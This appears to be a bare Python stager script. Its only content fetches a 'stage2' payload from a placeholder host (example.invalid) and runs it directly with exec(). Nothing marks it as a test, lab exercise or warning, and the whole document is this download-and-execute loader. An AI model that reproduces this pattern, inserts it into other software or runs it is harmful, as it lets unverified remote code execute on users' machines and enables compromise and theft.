import requests

payload = requests.get("http://example.invalid/stage2").content
exec(payload)
